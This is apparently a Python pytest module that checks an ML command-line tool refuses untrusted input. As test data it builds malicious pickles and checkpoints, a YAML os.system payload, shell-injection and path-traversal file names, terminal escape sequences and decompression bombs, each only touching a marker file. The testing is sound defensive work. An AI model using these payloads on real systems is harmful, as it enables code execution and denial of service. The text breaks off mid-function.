"""Files from others: each attack of SECURITY.md is tried with the real command, and must do nothing but be refused."""

import contextlib
import io
import json
import os
import pickle
import re
import shutil
import signal
import socket
import struct
import subprocess
import sys
import time
import urllib.request
import zipfile
import zlib
from pathlib import Path

import numpy as np
import pytest
import torch
from PIL import Image
from typer._completion_shared import get_completion_script

from tests.conftest import EVERYTHING, QUICK_FLAGS, ROOT, TUDUI, photograph, put_package, served, text_in, tudui_network
from tests.forked import MEGABYTES, Ended, command
from tests.test_data import write_cifar
from tudui.config import load_config
from tudui.errors import DataError


def refused(ended: Ended, code: int, *says: str) -> None:
    """Hold that a process ended with one line of error, and within bounds."""
    assert ended.code == code, ended.err
    errors = [line for line in ended.err.splitlines() if not line.startswith("note:")]
    assert len(errors) == 1, ended.err[:2000]
    assert errors[0].startswith("error: ")
    assert len(errors[0]) < 2000
    for words in says:
        assert words in errors[0]
    assert ended.megabytes < MEGABYTES


class Evil:
    """Unpickled, it touches a file."""

    def __reduce__(self):
        return Path.touch, (Path("executed"),)


def evil_archive(path: Path) -> None:
    """An .npz in which every array is an object that runs code when it is unpickled."""
    array = np.empty(1, dtype=object)
    array[0] = Evil()
    np.savez(path, **dict.fromkeys(("label", "predicted", "probabilities"), array))


def test_the_attack_itself_works(tmp_path):
    pickle.loads(pickle.dumps(Evil()))
    assert (tmp_path / "executed").exists()
    (tmp_path / "executed").unlink()
    evil_archive(tmp_path / "evil.npz")
    np.load("evil.npz", allow_pickle=True)["label"]
    assert (tmp_path / "executed").exists()


def installed(folder: Path) -> Path:
    """Return the command as pip installs it, which does not import from the working directory."""
    script = folder / "bin" / "tudui"
    script.parent.mkdir()
    script.write_text(f"#!{sys.executable}\nfrom tudui.__main__ import main\n\nmain()\n")
    script.chmod(0o755)
    return script


NAMES = ("$(touch executed)", "$(touch${IFS}executed)", "`touch executed`", "b\\$(touch executed)", ";touch executed;")


@pytest.mark.slow
@pytest.mark.parametrize("shell", ["bash", "zsh"])
def test_completion_runs_nothing(shell, tmp_path):
    if not shutil.which(shell):
        pytest.skip(f"needs {shell}")
    completes = installed(tmp_path)
    shown = completes.rename(completes.with_name("completes"))
    completes.write_text(  # pressed after the TAB key, Enter says what the shell has made of the line
        f'#!/bin/sh\nif [ "$_TUDUI_COMPLETE" ]; then exec {shown} "$@"; fi\necho "$@" >> {tmp_path}/called\n'
    )
    completes.chmod(0o755)
    keys = ["PATH=$PWD/bin:$PATH", *(["autoload -Uz compinit; compinit -u -D"] if shell == "zsh" else [])]
    keys.append(get_completion_script(prog_name="tudui", complete_var="_TUDUI_COMPLETE", shell=shell))
    for number, name in enumerate(("fine", *NAMES)):
        run = tmp_path / f"of{number}" / name
        run.mkdir(parents=True)
        (run / "config.yaml").touch()
        keys += [f"tudui evaluate of{number}/\t", f"tudui train -d folder:of{number}/\t"]
    ours, theirs = os.openpty()
    process = subprocess.Popen(
        [shell, "-f", "-i"] if shell == "zsh" else [shell, "--norc", "-i"],
        stdin=theirs, stdout=theirs, stderr=theirs, start_new_session=True,
    )  # fmt: skip
    os.close(theirs)
    os.write(ours, "".join(f"{line}\r" for line in [*keys, "exit"]).encode())
    with contextlib.suppress(OSError):  # the end of a terminal
        while os.read(ours, 65536):
            pass
    os.close(ours)
    process.wait()
    assert not list(tmp_path.glob("**/executed"))
    called = (tmp_path / "called").read_text().splitlines()
    assert "evaluate of0/fine" in [line.rstrip() for line in called]


TORCHRUN = ("-P", "-m", "torch.distributed.run", "--nproc-per-node", "1", "-m", "tudui")


@pytest.mark.slow
@pytest.mark.parametrize("started", [(), ("-P", "-m", "tudui"), TORCHRUN])
def test_nothing_in_the_working_directory_is_run(started, tmp_path):
    """Modules of Python's own names, and settings of matplotlib that it could not read."""
    folder = tmp_path / "received"
    folder.mkdir()
    for name in sys.stdlib_module_names:
        (folder / f"{name}.py").write_text("import posix\nposix.mkdir('executed')\n")
    (folder / "matplotlibrc").write_bytes(b"\xff")
    flags = ("compare-losses", "--losses", "ce,mse", "--seeds", "1", "--executor", "local", *QUICK_FLAGS)
    if started == TORCHRUN:
        flags = ("train", *QUICK_FLAGS)
    done = subprocess.run(
        [sys.executable, *(started or [installed(tmp_path)]), *flags], cwd=folder, capture_output=True, text=True,
        check=False, env={**os.environ, **({"PYTHONSAFEPATH": "1"} if started == TORCHRUN else {})},
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert not (folder / "executed").exists()


@pytest.mark.slow
@pytest.mark.parametrize("name", ["libcuda.so.1", "tls/x86_64/libcuda.so.1", "glibc-hwcaps/x86-64-v4/libcuda.so.1"])
def test_a_library_in_the_working_directory_is_not_loaded(name, tmp_path):
    (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
    (tmp_path / name).write_text("")
    refused(command("evaluate", "weights.pt", "--data", "digits"), 2, name)


@pytest.mark.parametrize("kind", ["zip", "before 1.6", "pickle", "a checkpoint"])
def test_weights_run_nothing(kind, tmp_path):
    content = {"format": 2, "state": Evil()} if kind == "a checkpoint" else {"conv1.weight": Evil()}
    if kind == "pickle":
        (tmp_path / "evil.pt").write_bytes(pickle.dumps(content))
    else:
        torch.save(content, tmp_path / "evil.pt", _use_new_zipfile_serialization=kind != "before 1.6")
    refused(command("evaluate", "evil.pt", "--data", "digits"), 5, "evil.pt: ")
    refused(command("train", "--init-from", "evil.pt", "-q"), 5, "evil.pt: ")
    assert not (tmp_path / "executed").exists()


def test_the_hooks_of_a_saved_module_are_not_called(tmp_path, tudui):
    class Network(torch.nn.Module):
        def __init__(self):
            super().__init__()
            self.layers = torch.nn.Sequential(*tudui_network(10).children())

    Network.__module__, Network.__qualname__ = "model", "Network"
    network = Network()
    network._state_dict_hooks["hook"] = torch.nn.Conv2d  # the file may name it, so it may be called by torch's methods
    from types import ModuleType

    module = ModuleType("model")
    module.Network = Network
    import sys

    sys.modules["model"] = module
    try:
        torch.save(network, tmp_path / "whole.pt")
    finally:
        del sys.modules["model"]
    answer = tudui("evaluate", "whole.pt", "--data", "digits")
    assert answer.code == 0, answer.err
    assert "a whole saved module" in answer.out


def test_a_checkpoint_in_a_run_from_others_runs_nothing(trained, tmp_path):
    shutil.copytree(trained, tmp_path / "run")
    (tmp_path / "run" / "result.json").unlink()
    for name in ("last.pt", "previous.pt"):
        torch.save({"format": 2, "state": Evil()}, tmp_path / "run" / "checkpoints" / name)
    for arguments in (["evaluate", "run"], ["train", "--resume", "run"]):
        refused(command(*arguments), 5, "checkpoints/")
    assert not (tmp_path / "executed").exists()


@pytest.mark.parametrize("name", ["data_batch_2", "batches.meta"])
def test_cifar_files_run_nothing(name, tmp_path):
    folder = tmp_path / "copy" / "cifar-10-batches-py"
    write_cifar(folder)
    (folder / name).write_bytes(pickle.dumps({"data": Evil(), "labels": [], "label_names": Evil()}))
    refused(command("data", "check", "cifar10", "--data-dir", "copy"), 3, name)
    assert not (tmp_path / "executed").exists()


def test_mnist_and_svhn_files_run_nothing(tmp_path):
    processed = tmp_path / "MNIST" / "processed"  # where torchvision looks for pickles of its first versions
    processed.mkdir(parents=True)
    for name in ("training.pt", "test.pt"):
        torch.save((Evil(), Evil()), processed / name)
    for name in ("train_32x32.mat", "test_32x32.mat"):
        (tmp_path / name).write_bytes(pickle.dumps(Evil()))
    for name in ("mnist", "svhn"):
        ended = command("data", "check", name, "--data-dir", tmp_path, http_proxy="http://127.0.0.1:9",
                        https_proxy="http://127.0.0.1:9")  # fmt: skip
        refused(ended, 3, name)
    assert not (tmp_path / "executed").exists()


def test_noise_manifests_and_matrices_run_nothing(tmp_path):
    (tmp_path / "evil").write_bytes(pickle.dumps(Evil()))
    refused(command("train", "-s", "data.noise_manifest=evil"), 3, "data.noise_manifest")
    matrix = ("-s", "data.label_noise=0.2", "-s", "data.noise_kind=asymmetric", "-s", "data.noise_matrix=evil")
    refused(command("train", *matrix), 3, "evil: ")
    refused(command("train", "-s", "data.noise_manifest=/dev/zero"), 3, "/dev/zero: ")
    assert not (tmp_path / "executed").exists()


def test_the_cache_runs_nothing(class_folders, tmp_path, tudui):
    assert tudui("data", "check", class_folders).code == 0
    (entry,) = (tmp_path / "cache" / "folders").iterdir()
    array = np.empty(40, dtype=object)
    array[:] = [Evil()] * 40
    np.save(entry / "images.npy", array, allow_pickle=True)
    assert command("data", "check", class_folders).code == 0
    assert not (tmp_path / "executed").exists()


@pytest.mark.slow
def test_predictions_run_nothing_and_are_bounded(compared, tmp_path):
    shutil.copytree(compared, tmp_path / "received", symlinks=True)
    path = tmp_path / "received" / "runs" / "ce-seed0" / "predictions.npz"
    evil_archive(path)
    refused(command("report", "received"), 3, "predictions.npz: ")
    assert not (tmp_path / "executed").exists()
    header = io.BytesIO()
    np.lib.format.write_array_header_1_0(header, {"descr": "<i8", "fortran_order": False, "shape": (2**27,)})
    with (
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("label.npy", "w", force_zip64=True) as file,
    ):
        file.write(header.getvalue())
        for _ in range(1024):
            file.write(bytes(2**20))
    assert path.stat().st_size < 2e6
    refused(command("report", "received"), 3, "predictions.npz: ")


@pytest.mark.parametrize("name", ["result.json", "metrics.jsonl"])
def test_files_of_gigabytes_in_a_comparison_are_bounded(name, compared, tmp_path):
    shutil.copytree(compared, tmp_path / "received", symlinks=True)
    os.truncate(tmp_path / "received" / "runs" / "ce-seed0" / name, 3 * 2**29)  # sparse
    ended = command("report", "received")
    assert ended.megabytes < MEGABYTES
    refused(ended, 2 if name == "result.json" else 3, "ce-seed0")  # a damaged result counts as none


@pytest.mark.parametrize("name", ["result.json", "metrics.jsonl"])
def test_values_that_are_much_larger_than_their_text_are_bounded(name, compared, tmp_path):
    """15 MiB of empty objects took 4.5 GB: each field that is missing kept them once more."""
    shutil.copytree(compared, tmp_path / "received", symlinks=True)
    text = '{"event": "RunStarted", "x": [' + "{}," * 5_000_000 + "{}]}\n"
    (tmp_path / "received" / "runs" / "ce-seed0" / name).write_text(text)
    ended = command("report", "received")
    assert ended.megabytes < MEGABYTES
    refused(ended, 2 if name == "result.json" else 3, "ce-seed0")


@pytest.mark.parametrize("name", ["x.csv", "x.json", "x.npy"])
def test_numbers_in_files_of_gigabytes_are_bounded(name, tmp_path):
    (tmp_path / name).write_bytes(b"x,y\n1,2\n")
    os.truncate(tmp_path / name, 3 * 2**29)
    for arguments in (("loss", "value", "l1", "-i", name, "-t", "1"), ("line-fit", "--csv", name)):
        ended = command(*arguments)
        assert ended.megabytes < MEGABYTES
        refused(ended, 2, name)


@pytest.mark.parametrize("part", [b"1,2,", b"words ", b"1,2\n", b"\0"])
def test_csv_files_of_gigabytes_are_bounded(part, class_folders, tmp_path):
    with (tmp_path / "x.csv").open("wb") as file:
        file.write(b'x,y\n1,2\n3,"' if part == b"1,2\n" else b"x,y\n1,2\n")
        for _ in range(512 if part != b"\0" else 0):
            file.write(part * (2**20 // len(part)))
    if part == b"\0":
        os.truncate(tmp_path / "x.csv", 3 * 2**29)  # sparse
    for name in (("table:x.csv",), (f"folder:{class_folders}", "--labels", "x.csv")):
        ended = command("train", "--data", *name, "--target", "y", "--lr", "0.1")
        assert ended.megabytes < MEGABYTES
        refused(ended, 3, "x.csv:3: ")


def test_the_predictions_of_many_runs_are_bounded_together(compared, tmp_path, monkeypatch):
    from tudui.comparison import compare, done

    kept = sum(
        column.nbytes for row in compare.read_comparison(compared).rows for run in row.runs
        for column in run.predictions.values()
    )  # fmt: skip
    assert kept < 12 * 360 * (3 * 8 + 8)  # 12 runs of 360 images, in bytes of a few columns and not of probabilities
    monkeypatch.setattr(done, "MAX_HELD", kept - 1)
    with pytest.raises(DataError, match="predictions of its runs"):
        compare.read_comparison(compared)


@pytest.mark.slow
def test_ten_thousand_classes_train_within_a_gigabyte(tmp_path):
    """Above torch, which takes 650 MB; the test has 10,000 images, one of each class."""
    for number in range(10_000):
        folder = tmp_path / "many" / f"class{number:05}"
        folder.mkdir(parents=True)
        for place in range(2):
            Image.new("RGB", (4, 4), (number % 256, number // 256, 255 * place)).save(folder / f"{place}.bmp")
    settings = ("-e", "1", "-b", "200", "-s", "data.validation=0", "-s", "train.threads=1")
    ended = command("train", "-d", "folder:many", *settings, "-o", "run", patience=300)
    assert ended.code == 0, ended.err
    assert ended.megabytes < 650 + 1024
    lines = (tmp_path / "run" / "metrics.jsonl").read_bytes().splitlines()
    assert max(map(len, lines)) < 2**20
    (test,) = [event for event in map(json.loads, lines) if event["event"] == "Evaluated"]
    assert sum(count for _, _, count in test["details"]["confusion"]) == 10_000


def test_images_run_nothing(class_folders, tmp_path):
    """Pillow would hand PostScript to the program gs, whatever the file's ending says."""
    (tmp_path / "bin").mkdir()
    (tmp_path / "bin" / "gs").write_text(f"#!/bin/sh\ntouch {tmp_path}/executed\n")
    (tmp_path / "bin" / "gs").chmod(0o755)
    path = {"PATH": f"{tmp_path / 'bin'}:{os.environ['PATH']}"}
    eps = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n%%EndComments\nshowpage\n%%EOF\n"
    (class_folders / "odd" / "page.png").write_bytes(eps)
    load = "import PIL.Image; PIL.Image.open('pictures/odd/page.png').load()"
    subprocess.run([TUDUI[0], "-c", load], check=False, capture_output=True, env={**os.environ, **path})
    assert (tmp_path / "executed").exists()  # so the attack works
    (tmp_path / "executed").unlink()
    refused(command("data", "check", class_folders, **path), 3, "odd/page.png")
    (class_folders / "odd" / "page.png").write_bytes(pickle.dumps(Evil()))
    refused(command("data", "check", class_folders), 3, "odd/page.png")
    assert not (tmp_path / "executed").exists()


def nested(width: int, depth: int) -> list:
    """A list that is small in a pickle, and holds width ** depth items once it is written out."""
    value: list = [0] * width
    for _ in range(depth):
        value = [value] * width
    return value


class Huge:
    """Unpickled, it is an array of 30 TB that shares one byte."""

    def __reduce__(self):
        return np.ndarray, ((10**10, 3072), "u1", b"x", 0, (0, 0))


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("data_batch_1", pickle.dumps({"data": nested(10, 9), "labels": [0]})),
        ("data_batch_1", pickle.dumps({"data": Huge(), "labels": [0]})),
        ("data_batch_1", pickle.dumps({"data": np.zeros((1, 3072), np.uint8), "labels": Huge()})),
        ("data_batch_1", pickle.dumps({"data": np.zeros((1, 3072), np.uint8), "labels": [nested(10, 9)]})),
        ("batches.meta", pickle.dumps({"label_names": nested(10, 9)})),
        ("batches.meta", pickle.dumps({"label_names": Huge()})),
        ("data_batch_1", b"\x80\x02}r" + struct.pack("<I", 2**30) + b"."),  # keep one object, as number 2**30
        ("data_batch_1", b"\x80\x04\x8e" + struct.pack("<Q", 2**40) + b"x."),  # a terabyte of bytes follows
    ],
    ids=["shared lists", "strides", "labels", "shared labels", "names", "strided names", "memo", "length"],
)
def test_pickles_that_unpack_without_end(name, content, tmp_path):
    folder = tmp_path / "copy" / "cifar-10-batches-py"
    write_cifar(folder)
    (folder / name).write_bytes(content)
    refused(command("data", "check", "cifar10", "--data-dir", "copy"), 3, "cifar-10-batches-py")


def expanded(rows: int) -> dict:
    state = dict(tudui_network(10).state_dict())
    state["linear2.weight"] = torch.zeros(1, 1).expand(rows, 64)
    state["linear2.bias"] = torch.zeros(1).expand(rows)
    return state


@pytest.mark.parametrize("kind", ["packed", "strides", "config", "format", "classes", "large"])
def test_weights_that_unpack_without_end(kind, trained, tmp_path):
    path = tmp_path / "bomb.pt"
    content = torch.load(trained / "checkpoints" / "last.pt")
    content["state"]["model"] = dict(content["state"]["model"])
    if kind == "packed":
        torch.save(tudui_network(10).state_dict(), tmp_path / "plain.pt")
        with zipfile.ZipFile(tmp_path / "plain.pt") as plain, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as bomb:
            for entry in plain.namelist():
                data = plain.read(entry)
                with bomb.open(entry, "w", force_zip64=True) as packed:
                    packed.write(data)
                    for _ in range(1024 if entry.endswith("data.pkl") else 0):
                        packed.write(bytes(2**20))
    elif kind == "strides":
        torch.save(expanded(10**9), path)
    elif kind == "config":
        torch.save(content | {"config": content["config"] | {"seed": nested(10, 9)}}, path)
    elif kind == "format":
        torch.save(content | {"format": nested(10, 9)}, path)
    elif kind == "classes":
        torch.save(content | {"task": {"kind": "classes", "names": [1] * (2 * 2**20)}}, path)
    else:
        with path.open("wb") as file:
            file.truncate(10**12)
    ended = command("evaluate", path, "--data", "digits")
    refused(ended, 2 if kind == "config" else 5)


@pytest.mark.parametrize("kind", ["header", "tensors", "claims", "names", "nested names", "nested text"])
def test_exports_that_unpack_without_end(kind, tmp_path):
    path = tmp_path / "bomb"
    about = {"format": 1, "origin": "x", "classes": ["x"] * 10, "mean": [0.0] * 3, "std": [1.0] * 3}
    empty = {"dtype": "F32", "shape": [0], "data_offsets": [0, 0]}
    headers = {
        "header": b"{" + b" " * (60 * 2**20),
        "tensors": json.dumps({str(number): empty for number in range(50_000)}).encode(),
        "claims": json.dumps({"conv1.bias": empty | {"shape": [2**40, 2**20]}}).encode(),
        "nested text": json.dumps({"__metadata__": {"tudui": "[" * 10**6, "sha256": ""}}).encode(),
    }
    if kind in headers:
        path.write_bytes(struct.pack("<Q", len(headers[kind])) + headers[kind])
    else:
        about["classes"] = [1] * (2 * 2**20) if kind == "names" else nested(10, 9)
        torch.save({"tudui": about, "state_dict": tudui_network(10).state_dict()}, path)
    refused(command("evaluate", path, "--data", "digits"), 5, "bomb: ")


def test_exports_run_nothing(tmp_path):
    torch.save({"tudui": Evil(), "state_dict": tudui_network(10).state_dict()}, tmp_path / "evil.pt")
    refused(command("predict", "evil.pt", "x.png"), 5, "evil.pt: ")
    assert not (tmp_path / "executed").exists()


def test_names_do_not_steer_a_spreadsheet_or_a_model_card(tmp_path, tudui):
    names = ["=1+1", "@x", "<script>", "![x](http://x)", *"456789"]
    about = {"format": 1, "origin": "x", "classes": names, "mean": [0.0] * 3, "std": [1.0] * 3}
    torch.save({"tudui": about, "state_dict": tudui_network(10).state_dict()}, tmp_path / "received.pt")
    photograph(0).save(tmp_path / "=2+2.png")
    cells = tudui("predict", "received.pt", "=2+2.png", "--csv", "--top", 10).out.splitlines()[1].split(",")
    assert {"./=2+2.png", "'=1+1", "'@x", "<script>"} < set(cells)
    assert not [cell for cell in cells if cell.startswith(("=", "@", "+", "-"))]
    assert tudui("export", "received.pt").code == 0
    card = Path("received.safetensors.md").read_text()
    assert r"\<script\>, !\[x\](http://x)" in card


def yaml_lists(depth: int) -> str:
    return "seed: " + "[" * depth + "]" * depth


LAUGHS = "a: &a [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{chr(98 + n)}: &{chr(98 + n)} [{', '.join([f'*{chr(97 + n)}'] * 10)}]\n" for n in range(9)
)


@pytest.mark.parametrize(
    "text",
    [
        LAUGHS,
        f"{LAUGHS}? *j\n: 1\n",
        f"? &a [x, x]\n: 1\n? {'[*a, ' * 30}1{']' * 30}\n: 2\n",
        "data: !!python/object/apply:os.system ['touch executed']\n",
        "data: !!python/object/new:pathlib.Path {args: [x]}\n",
        "!!python/module:os\n",
        yaml_lists(10_000),
        yaml_lists(100),
        "{" * 100_000,
        f"seed: {'x' * 200_000}\n",
        f"{'x' * 200_000}: 1\n",
        f"? {'x' * 200_000}\n: 1\n",
        f"seed: 0x{'f' * 4000}\n",
        f"seed: [0x{'f' * 4000}]\n",
        f"seed: {'9' * 4090}\n",
    ],
    ids=["laughs", "laughs as a key", "shared keys", "apply", "new", "module", "depth 10,000", "depth 100",
         "open braces", "scalar", "key", "explicit key", "hexadecimal", "in a list", "digits"],
)  # fmt: skip
def test_configs_are_bounded_data(text, tmp_path):
    (tmp_path / "attack.yaml").write_text(text)
    ended = command("train", "--config", "attack.yaml", "--dry-run")
    assert ended.code == 2, ended.err[:2000]
    lines = ended.err.splitlines()
    assert len(lines) <= 21
    assert lines[0].startswith("error: attack.yaml:")
    assert all(line.startswith("error: ") and len(line) < 5000 for line in lines)
    assert ended.megabytes < MEGABYTES
    assert not (tmp_path / "executed").exists()


@pytest.mark.slow
def test_a_config_in_which_everything_is_wrong_is_not_listed_without_end(tmp_path, tudui):
    (tmp_path / "wrong.yaml").write_text("".join(f"k{number}: 1\n" for number in range(20_000)))
    answer = tudui("config", "validate", "wrong.yaml")
    assert answer.code == 2
    assert "19980" in answer.err.splitlines()[-1]
    assert len(answer.err.splitlines()) == 21


@pytest.mark.parametrize(
    "asked",
    [f"rates: [{', '.join(f'{n}e-6' for n in range(1, 30_000))}]", "seeds: 1000, label_noise: [0, 0.1, 0.2, 0.3]"],
)
def test_a_plan_of_more_runs_than_anybody_compares_is_refused(asked, tmp_path):
    (tmp_path / "plan.yaml").write_text(f"comparison: {{lr: tuned, tuning_seeds: 100, {asked}}}")
    ended = command("compare-losses", "--config", "plan.yaml", "--dry-run")
    assert ended.megabytes < MEGABYTES
    refused(ended, 2, "plan.yaml")


def test_a_config_without_end_is_refused(tmp_path):
    (tmp_path / "long.yaml").write_text("seed: " + "x" * 50_000_000)
    refused(command("train", "--config", "long.yaml"), 2, "long.yaml: ")
    (tmp_path / "run").mkdir()
    (tmp_path / "run" / "config.yaml").symlink_to("/dev/zero")
    assert command("runs", tmp_path / "run").code == 2  # no run here


def png(width: int, height: int, rows: int, mode: int = 2, *, depth: int = 8) -> bytes:
    """A PNG of one colour, whose header may promise more rows than follow: a tiny file of a large picture."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    row = bytes(1 + width * {0: 1, 2: 3, 6: 4}[mode] * depth // 8)
    packer = zlib.compressobj(9)
    packed = b"".join([*(packer.compress(row) for _ in range(rows)), packer.flush()])
    header = struct.pack(">IIBBBBB", width, height, depth, mode, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


def tiff() -> bytes:
    """A TIFF of 60,000 x 60,000 pixels in a few bytes."""
    tags = [(256, 4, 60_000), (257, 4, 60_000), (258, 3, 8), (259, 3, 1), (262, 3, 1), (273, 4, 8), (277, 3, 1),
            (278, 4, 60_000), (279, 4, 2**31)]  # fmt: skip
    entries = b"".join(struct.pack("<HHII", tag, kind, 1, value) for tag, kind, value in tags)
    return b"II*\0" + struct.pack("<I", 8) + struct.pack("<H", len(tags)) + entries + bytes(4)


@pytest.mark.parametrize(
    ("name", "make"),
    [
        ("claimed.png", lambda: png(100_000, 100_000, 1)),
        ("packed.png", lambda: png(9_000, 9_000, 9_000)),
        ("decoded.png", lambda: png(7_000, 7_000, 7_000)),
        ("claimed.tif", tiff),
        ("text.png", lambda: png(9, 9, 9)[:33] + text_bomb() + png(9, 9, 9)[33:]),
    ],
)
def test_pictures_too_large_are_refused(name, make, class_folders):
    (class_folders / "odd" / name).write_bytes(make())
    assert (class_folders / "odd" / name).stat().st_size < 2e6
    refused(command("data", "check", class_folders), 3, f"odd/{name}")


def text_bomb() -> bytes:
    """A PNG's text of a gigabyte."""
    packer = zlib.compressobj(9)
    packed = b"".join([*(packer.compress(bytes(2**20)) for _ in range(1024)), packer.flush()])
    data = b"Comment\0\0" + packed
    return struct.pack(">I", len(data)) + b"zTXt" + data + struct.pack(">I", zlib.crc32(b"zTXt" + data))


@pytest.mark.slow
def test_the_largest_pictures_fit_into_memory_one_at_a_time(class_folders):
    """Eight of 24 million pixels, of the kinds that take most: transparent, and of 16 bits."""
    for number in range(4):
        (class_folders / "odd" / f"clear{number}.png").write_bytes(png(6_000, 4_000, 4_000, 6))
        (class_folders / "even" / f"deep{number}.png").write_bytes(png(6_000, 4_000, 4_000, 0, depth=16))
    ended = command("data", "check", class_folders)
    assert ended.code == 0, ended.err
    assert ended.megabytes < MEGABYTES


def test_of_a_picture_with_many_frames_one_is_read(class_folders):
    frames = [Image.new("P", (500, 500), number % 256) for number in range(3000)]
    frames[0].save(class_folders / "odd" / "many.gif", save_all=True, append_images=frames[1:])
    ended = command("data", "check", class_folders)
    assert ended.code == 0, ended.err
    assert ended.megabytes < MEGABYTES


def test_what_is_no_regular_file_is_not_read(class_folders):
    os.mkfifo(class_folders / "odd" / "waits.png")
    (class_folders / "odd" / "endless.png").symlink_to("/dev/zero")
    ended = command("data", "check", class_folders)
    assert ended.code == 3, ended.err
    assert "2 of 42 images cannot be read" in ended.err


RECORD = ("config.yaml", "metrics.jsonl", "result.json", "checkpoints/last.pt")


@pytest.mark.parametrize("kind", ["pipe", "endless"])
@pytest.mark.parametrize("name", [*(f"run/{name}" for name in RECORD), "x.safetensors", "x.yaml", "x.csv"])
def test_no_reader_waits_for_what_is_no_regular_file(name, kind, trained, tmp_path):
    shutil.copytree(trained, tmp_path / "run")
    path = tmp_path / name
    path.unlink(missing_ok=True)
    os.mkfifo(path) if kind == "pipe" else path.symlink_to("/dev/zero")
    reads = {
        "config.yaml": ("train", "--resume", "run"), "metrics.jsonl": ("train", "--resume", "run"),
        "result.json": ("runs", "."), "last.pt": ("evaluate", "run"), "x.safetensors": ("evaluate", name),
        "x.yaml": ("train", "--config", name), "x.csv": ("line-fit", "--csv", name),
    }  # fmt: skip
    if path.name == "metrics.jsonl":
        (tmp_path / "run" / "result.json").unlink()
    ended = command(*reads[path.name])
    assert ended.code in (0, 2, 3, 5, 6), ended.err
    assert ended.err.count("error: ") == (ended.code != 0)
    assert "Traceback" not in ended.err
    assert ended.megabytes < MEGABYTES


def test_files_of_others_are_opened_in_one_place():
    """tudui.files.opened refuses what is no regular file; these are what the program itself has written or shipped."""
    own = {"files.py", "report/html.py", "language.py", "api/configs.py", "cli/config.py", "training/device.py"}
    own |= {"comparison/executors/on_ray.py"}  # only what is_file() says is one
    opens = re.compile(r"\.read_(text|bytes)\(|(path|file|written)\.open\(|\.open\(encoding|(np|torch)\.load\(path")
    package = ROOT / "tudui"
    found = {str(path.relative_to(package)) for path in package.rglob("*.py") if opens.search(path.read_text())}
    assert found - own == set()


@pytest.mark.parametrize("name", ["../../secret", "../pyproject", "/etc/passwd/x", "compare/../digits", "."])
def test_a_config_name_leads_nowhere(name, tudui):
    for arguments in (["train", "--config", name], ["config", "copy", name], ["compare-losses", "--config", name]):
        tudui(*arguments).refused(2)


@pytest.mark.parametrize("name", ["../x", "/tmp/x", "a/b", "..", ".hidden", "a\\b", "x" * 65, "a\nb", "-rf"])
def test_a_variants_name_stays_in_its_folder(name, tmp_path, tudui):
    (tmp_path / "plan.yaml").write_text(f"comparison:\n  variants:\n    {name!r}: ce\n".replace("'", '"'))
    answer = tudui("compare-losses", "--config", "plan.yaml", "-o", "out")
    assert answer.code == 2
    assert "comparison.variants." in answer.err
    assert not (tmp_path / "out").exists()


def plugin(folder: Path, name: str) -> None:
    """Put a package with a loss of this name where Python finds packages."""
    put_package(folder, f"[tudui.losses]\n{name} = evil_loss:SPEC\n")
    (folder / "evil_loss.py").write_text(
        "from dataclasses import replace\nfrom tudui.losses.cross_entropy import CE\n"
        f"SPEC = replace(CE, name={name!r})\n"
    )


def with_packages(folder: Path, *arguments: str) -> subprocess.CompletedProcess[str]:
    """Run the command in an interpreter that finds these packages as it starts."""
    path = os.pathsep.join([str(folder), os.environ.get("PYTHONPATH", "")])
    return subprocess.run(
        [*TUDUI, *arguments], capture_output=True, text=True, check=False, env={**os.environ, "PYTHONPATH": path}
    )


@pytest.mark.parametrize("name", ["../../x", "[bold]x", "x" * 65, "ce"])
def test_a_plugins_name_stays_in_its_folder(name, tmp_path):
    plugin(tmp_path / "packages", name)
    done = with_packages(tmp_path / "packages", "train", "--loss", name)
    assert done.returncode == 2
    assert len(done.stderr.splitlines()) == 1
    assert done.stderr.startswith("error: entry point tudui.losses: ")
    assert not (tmp_path / "runs").exists()
    plugin(tmp_path / "fine", "fine")
    assert "fine" in with_packages(tmp_path / "fine", "loss", "list").stdout


def test_a_data_folders_name_is_harmless_in_a_shell_and_on_the_terminal(class_folders, tmp_path, tudui):
    folder = class_folders.rename(tmp_path / "x; touch executed #[bold]$(touch executed)[nothing]")
    flags = ("-d", f"folder:{folder}", "-b", "8", "-e", "1", "--set", "device=cpu")
    answer = tudui("train", *flags)
    assert answer.code == 0, answer.err
    (run,) = (tmp_path / "runs").iterdir()
    assert re.fullmatch(r"[\w+.-]+", run.name)
    (printed,) = re.findall(r"open it in TensorBoard: .*?(tensorboard .*)", answer.out)
    assert printed == f"tensorboard runs/{run.name}"
    assert (
        tudui("train", *flags, "-o", "a b; touch executed")
        .out.splitlines()[-1]
        .endswith("tensorboard 'a b; touch executed'")
    )
    assert tudui("compare-losses", "-d", f"folder:{folder}", "--dry-run", "-s", "train.batch_size=8").code == 0


@pytest.mark.parametrize(
    "name", ["a\x1b]0;title\x07", "a\nerror: b", "a\x9b31m", "a\u202eb", "a\x7f", os.fsdecode(b"\xff")]
)
def test_class_folders_with_control_characters_are_refused(name, class_folders):
    (class_folders / "odd").rename(class_folders / name)
    ended = command("data", "check", class_folders)
    refused(ended, 3)
    assert "\x1b" not in ended.err


@pytest.mark.parametrize(
    "name", ["<script>x", "[bold]x[bold]", "[", "x..", "$x$ \\frac", "=1+1", "می\u200cخواهم", "自　動", "#`x`|*_"]
)
def test_class_folders_of_any_other_name_are_taken_as_they_are(name, class_folders, tudui):
    (class_folders / "odd").rename(class_folders / name)
    answer = tudui("data", "check", class_folders)
    assert answer.code == 0, answer.err
    assert name in answer.out
    assert tudui("train", "-d", f"folder:{class_folders}", "-b", "8", "-e", "1", "-o", "run").code == 0
    assert name in tudui("evaluate", "run").out


def test_names_in_files_do_not_steer_the_terminal(trained, tmp_path):
    """Class names of a checkpoint, file names, and what a run of others says of itself."""
    escape = "\x1b]0;title\x07\x1b[2J\x9b31m\u202e\u061c\u200f"
    content = torch.load(trained / "checkpoints" / "last.pt")
